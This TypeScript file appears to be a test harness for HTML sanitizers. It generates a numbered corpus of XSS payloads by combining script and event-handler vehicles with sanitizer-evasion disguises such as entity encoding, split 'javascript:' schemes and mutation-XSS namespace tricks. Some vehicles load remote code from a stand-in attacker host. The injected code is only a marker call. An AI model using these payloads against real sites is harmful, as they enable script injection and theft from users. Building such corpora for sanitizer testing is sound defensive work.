/** Markup that runs the attacker's code. */
type Vehicle = (code: string) => string

/** Reports the payload as run; on `top`, because some payloads run in a frame of their own. */
const codeOf = (n: number) => `top.ran(${n})`

const elsewhere = 'https://attacker.invalid'

const onEvent = (element: string, event: string): Vehicle => {
  const [name = '', ...rest] = element.split(' ')
  return (code) => `<${[name, ...rest].join(' ')} ${event}="${code}">`
}

const vehicles: readonly Vehicle[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<script type="module">${code}</script>`,
  () => `<script src="${elsewhere}/x.js"></script>`,
  onEvent('img src=x', 'onerror'),
  onEvent('img src=x:x srcset=x', 'onerror'),
  onEvent('img src=/favicon.ico', 'onload'),
  onEvent('video src=x', 'onerror'),
  (code) => `<video><source onerror="${code}"></video>`,
  onEvent('video poster=/favicon.ico src=x', 'onloadstart'),
  onEvent('audio src=x', 'onerror'),
  onEvent('svg', 'onload'),
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate attributeName=x dur=1s onbegin="${code}"></svg>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>here</text></a></svg>`,
  (code) => `<svg><foreignObject><img src=x onerror="${code}"></foreignObject></svg>`,
  onEvent('body', 'onload'),
  (code) => `<details open ontoggle="${code}"><summary>more</summary></details>`,
  onEvent('input autofocus', 'onfocus'),
  (code) => `<select autofocus onfocus="${code}"><option>1</select>`,
  (code) => `<textarea autofocus onfocus="${code}"></textarea>`,
  (code) => `<p tabindex=0 autofocus onfocus="${code}">here</p>`,
  (code) => `<p onmouseover="${code}">here</p>`,
  (code) => `<span onpointerenter="${code}" style="position:fixed;inset:0">here</span>`,
  (code) => `<p onclick="${code}">here</p>`,
  (code) => `<a href="javascript:${code}">here</a>`,
  (code) => `<form action="javascript:${code}"><button>here</button></form>`,
  (code) => `<form><button formaction="javascript:${code}">here</button></form>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<math><maction actiontype="statusline" xlink:href="javascript:${code}">here</maction></math>`,
  (code) => `<style>@keyframes go{}</style><p style="animation:go 1s" onanimationstart="${code}">here</p>`,
  (code) => `<p style="background:url('javascript:${code}')">here</p>`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  () => `<link rel="stylesheet" href="${elsewhere}/x.css">`,
  () => `<style>@import "${elsewhere}/x.css";</style>`,
  () => `<base href="${elsewhere}/">`,
]

const entity = (text: string, as: (point: number) => string) =>
  Array.from(text, (character) => as(character.codePointAt(0) ?? 0)).join('')
const quoted = /"([^"]*)"/g
const inQuotes = (html: string, change: (value: string) => string) =>
  html.replace(quoted, (_whole, value: string) => `"${change(value)}"`)

/** Obfuscations that make a sanitizer read the markup differently from the browser. */
const disguises: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<\/?[a-z]+/gi, (tag) => tag.toUpperCase()),
  (html) => html.replace(/\bon\w+=/g, (event) => `oN${event.slice(2).toUpperCase()}`),
  (html) => html.replace(/<([a-z]+) /gi, '<$1/'),
  (html) => html.replace(/<([a-z]+) /gi, '<$1\n\t\f'),
  (html) => html.replace(/<([a-z]+) /gi, '<$1 x=">" '),
  (html) => html.replaceAll('"', "'"),
  (html) => html.replace(quoted, '$1'),
  (html) => inQuotes(html, (value) => entity(value, (point) => `&#${point};`)),
  (html) => inQuotes(html, (value) => entity(value, (point) => `&#x${point.toString(16)}`)),
  (html) => inQuotes(html, (value) => entity(value, (point) => `&#0000${point};`)),
  (html) => html.replaceAll('javascript:', 'java\tscript\n:'),
  (html) => html.replaceAll('javascript:', 'java&Tab;script&colon;'),
  (html) => html.replaceAll('javascript:', '\u00a0javascript:'),
  (html) => html.replace('<', '<<'),
  (html) => html.replace(/^<([a-z]+)/i, '<$1<$1'),
  (html) => html.replaceAll('<script', '<scr<script>ipt'),
  (html) => html.slice(0, -1),
  (html) => entity(html, (point) => (point < 64 ? `&#${point};` : String.fromCodePoint(point))),
  (html) => html.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (html) => html.replaceAll('<', '\\u003c'),
  (html) => encodeURIComponent(html),
  (html) => `<p>${html}</p>`,
  (html) => `<p title='${html}`,
  (html) => `<p class="x">${html}`,
  (html) => `<img alt="'>${html}" src=x>`,
  (html) => `"><${html.slice(1)}`,
  (html) => `'-->${html}`,
  (html) => `<!--><${html.slice(1)}-->`,
  (html) => `<!-- --!>${html}`,
  (html) => `<![CDATA[${html}]]>`,
  (html) => `<?x ${html}?>`,
  (html) => `<span style="color:red;}</style>${html}">x</span>`,
  (html) => `</textarea></title></style></noscript>${html}`,
  (html) => `<noscript><p title="</noscript>${html}">`,
  (html) => `<textarea><p title="</textarea>${html}">`,
  (html) => `<xmp><p title="</xmp>${html}">`,
  (html) => `<title><p title="</title>${html}">`,
  (html) => `<svg></p><style><p title="</style>${html}">`,
  (html) => `<math><mtext><table><mglyph><style><!--</style>${html}`,
  (html) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${html}">`,
  (html) => `<svg><desc><p>${html}</p></desc></svg>`,
  (html) => `<template>${html}</template>`,
  (html) => `<table><tr>${html}</tr></table>`,
  (html) => `<select><option>${html}</select>`,
]

export type Payload = { readonly n: number; readonly html: string }

/** Every vehicle in every disguise, once each and numbered: a payload that runs reports its number. */
export function corpus(): readonly Payload[] {
  const seen = new Map<string, number>()
  const place = vehicles.length
  for (const [d, disguise] of disguises.entries())
    for (const [v, vehicle] of vehicles.entries()) {
      const html = disguise(vehicle(codeOf(d * place + v)))
      if (!seen.has(html)) seen.set(html, d * place + v)
    }
  return [...seen].map(([html, n]) => ({ n, html }))
}
